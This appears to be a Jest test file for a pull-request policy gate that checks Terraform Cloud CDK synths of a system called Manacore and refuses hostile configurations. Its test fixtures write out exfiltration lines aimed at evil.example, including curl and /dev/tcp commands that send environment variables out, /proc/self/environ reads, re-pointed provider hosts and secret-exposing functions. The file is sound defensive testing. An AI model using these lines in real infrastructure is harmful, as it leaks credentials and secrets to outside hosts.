/**
 * Issue 30: the pull-request gate (scripts/pr-gate/policy.ts) refuses every hostile
 * configuration a pull request could hand a speculative plan, and passes a normal product change.
 * Base and head are real synths of Manacore in Terraform Cloud mode (where the plan runs inside
 * the workspace holding the providers' write credentials); each hostile case edits one stack.
 */
import { manacore } from '../environments';
import type { SystemSpec } from '../system/model';
import { checkSynth, formatViolation, type GateStack, type GateViolation } from '../scripts/pr-gate/policy';
import { functionsCalled } from '../scripts/pr-gate/expressions';
import { SynthesizedSystem } from './helpers/synth';

const OPTIONS = { terraformCloudOrganization: 'acme' };

function synthAll(system: SystemSpec): Map<string, any> {
  const app = new SynthesizedSystem(system, OPTIONS);
  return new Map(app.stackNames.map((name) => [name, app.synth(name)]));
}

const base = synthAll(manacore);

/** The head synth as the gate reads it: a copy of the base (or of `from`), with `edit` applied to one stack. */
function head(stack: string, edit: (json: any) => void, from: Map<string, any> = base): Map<string, GateStack> {
  const copy = new Map<string, GateStack>();
  for (const [name, json] of from) copy.set(name, { json: structuredClone(json), files: ['cdk.tf.json', '.terraform.lock.hcl'] });
  edit(copy.get(stack)!.json);
  return copy;
}

const rulesOf = (violations: GateViolation[]) => [...new Set(violations.map((v) => `${v.stack} ${v.address} ${v.rule}`))];

describe('the pull-request gate', () => {
  it('passes the base itself, and a normal change to a product (environment, resources)', () => {
    expect(checkSynth(base, head('staging-chat', () => undefined))).toEqual([]);
    const changed: SystemSpec = {
      ...manacore,
      products: manacore.products.map((product) =>
        product.name !== 'chat'
          ? product
          : { ...product, services: product.services.map((s) => (s.name === 'backend' ? { ...s, environment: { ...s.environment, LOG_LEVEL: 'debug' }, resources: { memoryLimitMiB: 768 } } : s)) },
      ),
    };
    const changedSynth = synthAll(changed);
    // The change is real: chat's stacks differ from the base.
    expect(JSON.stringify(changedSynth.get('production-chat'))).not.toEqual(JSON.stringify(base.get('production-chat')));
    expect(checkSynth(base, head('production-chat', () => undefined, changedSynth))).toEqual([]);
  });

  it('refuses a data "external" or "http" source, local files and null/terraform_data with commands', () => {
    const violations = checkSynth(
      base,
      head('staging-chat', (json) => {
        json.data.external = { steal: { program: ['sh', '-c', 'env | curl -d @- https://evil.example'] } };
        json.data.http = { steal: { url: 'https://evil.example/${var.registry_password}' } };
        json.data.local_file = { environ: { filename: '/proc/self/environ' } };
        json.resource.null_resource = { run: { triggers: { always: 'x' } } };
        json.resource.terraform_data = { run: { input: 'x' } };
      }),
    );
    expect(rulesOf(violations)).toEqual(
      expect.arrayContaining([
        'staging-chat data.external.steal forbidden-type',
        'staging-chat data.http.steal forbidden-type',
        'staging-chat data.local_file.environ forbidden-type',
        'staging-chat null_resource.run forbidden-type',
        'staging-chat terraform_data.run forbidden-type',
      ]),
    );
  });

  it('refuses provisioners and local-exec on an allowed resource type', () => {
    const violations = checkSynth(
      base,
      head('production-chat', (json) => {
        const [id] = Object.keys(json.resource.random_id);
        json.resource.random_id[id].provisioner = [{ 'local-exec': { command: 'env > /dev/tcp/evil.example/80' } }];
      }),
    );
    expect(violations.map((v) => v.rule)).toContain('provisioner');
    expect(violations.find((v) => v.rule === 'provisioner')!.address).toMatch(/^resource\.random_id\..+\.provisioner$/);
  });

  it('refuses an unpinned provider, another source, or a provider the base does not use', () => {
    const violations = checkSynth(
      base,
      head('staging-chat', (json) => {
        json.terraform.required_providers.docker = { source: 'kreuzwerker/docker', version: '>= 3.0' };
        json.terraform.required_providers.cloudflare = { source: 'evil/cloudflare', version: '5.14.0' };
        json.terraform.required_providers.external = { source: 'hashicorp/external', version: '2.3.4' };
      }),
    );
    expect(rulesOf(violations)).toEqual(
      expect.arrayContaining([
        'staging-chat terraform.required_providers.docker provider-pin',
        'staging-chat terraform.required_providers.cloudflare provider-pin',
        'staging-chat terraform.required_providers.external provider-pin',
      ]),
    );
  });

  it('refuses a provider block pointed at another host, endpoint or base URL, given credentials, or an extra alias', () => {
    const violations = checkSynth(
      base,
      head('staging-chat', (json) => {
        json.provider.docker[0].host = 'ssh://deploy@evil.example:22';
        json.provider.github[0].base_url = 'https://evil.example/';
        json.provider.cloudflare[0].base_url = 'https://evil.example/client/v4';
        json.provider.random.push({ alias: 'second' });
        json.provider.tfe = [{ hostname: 'evil.example', token: '${var.registry_password}' }];
      }),
    );
    expect(rulesOf(violations)).toEqual(
      expect.arrayContaining([
        'staging-chat provider.docker[0] provider-config',
        'staging-chat provider.github[0] provider-config',
        'staging-chat provider.cloudflare[0] provider-config',
        'staging-chat provider.random[1] provider-config',
        'staging-chat provider.tfe[0] provider-config',
      ]),
    );
  });

  it("refuses another stack kind's provider configuration, even one the base writes elsewhere", () => {
    // staging-chat-credentials has only `random`; the network stack's hcloud block is not its to use.
    const network = base.get('staging-network');
    const violations = checkSynth(base, head('staging-chat-credentials', (json) => void (json.provider.hcloud = network.provider.hcloud)));
    expect(rulesOf(violations)).toContain('staging-chat-credentials provider.hcloud[0] provider-config');
  });

  it('refuses a resource or data-source type the library does not use for that stack kind', () => {
    const violations = checkSynth(
      base,
      head('staging-chat', (json) => {
        json.resource.hcloud_server = { extra: { name: 'x', server_type: 'cx22', image: 'debian-12' } };
        json.data.github_repository = { other: { full_name: 'manacore/other' } };
      }),
    );
    expect(rulesOf(violations)).toEqual(
      expect.arrayContaining(['staging-chat hcloud_server.extra resource-type', 'staging-chat data.github_repository.other data-type']),
    );
  });

  it('refuses remote-state reads beyond the declared producers: another product, another environment, a re-pointed workspace', () => {
    const read = (json: any, producer: string) => ({ ...json.data.tfe_outputs['outputs-staging-network'], workspace: `manacore-${producer}` });
    const violations = checkSynth(
      base,
      head('staging-chat', (json) => {
        json.data.tfe_outputs['outputs-staging-picture-credentials'] = read(json, 'staging-picture-credentials');
        json.data.tfe_outputs['outputs-production-chat-credentials'] = read(json, 'production-chat-credentials');
        json.data.tfe_outputs['outputs-staging-edge'].workspace = 'manacore-staging-data';
        json.data.tfe_outputs['outputs-staging-network'].organization = 'evil';
      }),
    );
    expect(rulesOf(violations).sort()).toEqual([
      'staging-chat data.tfe_outputs.outputs-production-chat-credentials producer',
      'staging-chat data.tfe_outputs.outputs-staging-edge producer',
      'staging-chat data.tfe_outputs.outputs-staging-network producer',
      'staging-chat data.tfe_outputs.outputs-staging-picture-credentials producer',
    ]);
    expect(violations.find((v) => v.address.endsWith('picture-credentials'))!.detail).toContain('other-credentials');
  });

  it('refuses a changed backend: another workspace or organization for the speculative plan', () => {
    const violations = checkSynth(base, head('staging-chat', (json) => void (json.terraform.cloud.workspaces.name = 'manacore-production-data')));
    expect(rulesOf(violations)).toEqual(['staging-chat terraform backend']);
  });

  it('refuses functions the base never calls (file, templatefile, nonsensitive) and modules, checks or imports', () => {
    const violations = checkSynth(
      base,
      head('staging-chat', (json) => {
        json.output = {
          environ: { value: '${file("/proc/self/environ")}' },
          leak: { value: '${nonsensitive(var.registry_password)}' },
          template: { value: 'a ${upper(templatefile("x.tpl", {}))} b' },
        };
        json.module = { evil: { source: 'git::https://evil.example/m.git' } };
        json.check = { probe: { data: { http: { probe: { url: 'https://evil.example' } } } } };
      }),
    );
    expect(rulesOf(violations)).toEqual(
      expect.arrayContaining([
        'staging-chat output.environ.value function',
        'staging-chat output.leak.value function',
        'staging-chat output.template.value function',
        'staging-chat module top-level-block',
        'staging-chat check top-level-block',
      ]),
    );
  });

  it("refuses a data source whose arguments carry a variable or another stack's outputs", () => {
    const violations = checkSynth(
      base,
      head('staging-network', (json) => {
        const [id] = Object.keys(json.data.cloudflare_zone);
        json.data.cloudflare_zone[id].filter = { name: '${var.registry_password}.${data.tfe_outputs.outputs-staging-chat-credentials.values.database_url}' };
      }),
    );
    expect(violations.map((v) => v.rule)).toEqual(['data-argument', 'data-argument']);
    expect(violations.map((v) => v.detail)).toEqual([expect.stringContaining('reads data.tfe_outputs.outputs-staging-chat-credentials'), expect.stringContaining('reads var.registry_password')]);
  });

  it('refuses a sensitive variable made plain, and a new plain variable', () => {
    const violations = checkSynth(
      base,
      head('staging-chat', (json) => {
        json.variable.registry_password.sensitive = false;
        json.variable.new_secret = { type: 'string' };
      }),
    );
    expect(rulesOf(violations).sort()).toEqual(['staging-chat var.new_secret variable-sensitive', 'staging-chat var.registry_password variable-sensitive']);
  });

  it('refuses extra files in a stack directory and a stack kind the base does not have', () => {
    const files = head('staging-chat', () => undefined);
    files.set('staging-chat', { ...files.get('staging-chat')!, files: ['cdk.tf.json', 'evil.tf', 'terraform.tfvars'] });
    files.set('bootstrap', { json: {}, files: ['cdk.tf.json'] });
    expect(rulesOf(checkSynth(base, files)).sort()).toEqual([
      'bootstrap bootstrap unknown-stack-kind',
      'staging-chat evil.tf extra-file',
      'staging-chat terraform.tfvars extra-file',
    ]);
  });

  it('names stack, address and rule in one line', () => {
    const [violation] = checkSynth(base, head('staging-chat', (json) => void (json.data.external = { x: { program: ['true'] } })));
    expect(formatViolation(violation)).toMatch(/^staging-chat data\.external\.x \[forbidden-type\] /);
  });
});

describe('function calls in Terraform JSON templates', () => {
  it('finds calls inside ${} and %{}, nested strings included, and ignores literal text and escapes', () => {
    expect([...functionsCalled('Host(`a`) && ${join(",", [sha256("x")])}')].sort()).toEqual(['join', 'sha256']);
    expect([...functionsCalled('$${file("x")} %%{ if file("y") }')]).toEqual([]);
    expect([...functionsCalled('${"a ${file("b(")} c"}')]).toEqual(['file']);
    expect([...functionsCalled('${provider::evil::run(1)}')]).toEqual(['provider::evil::run']);
  });
});
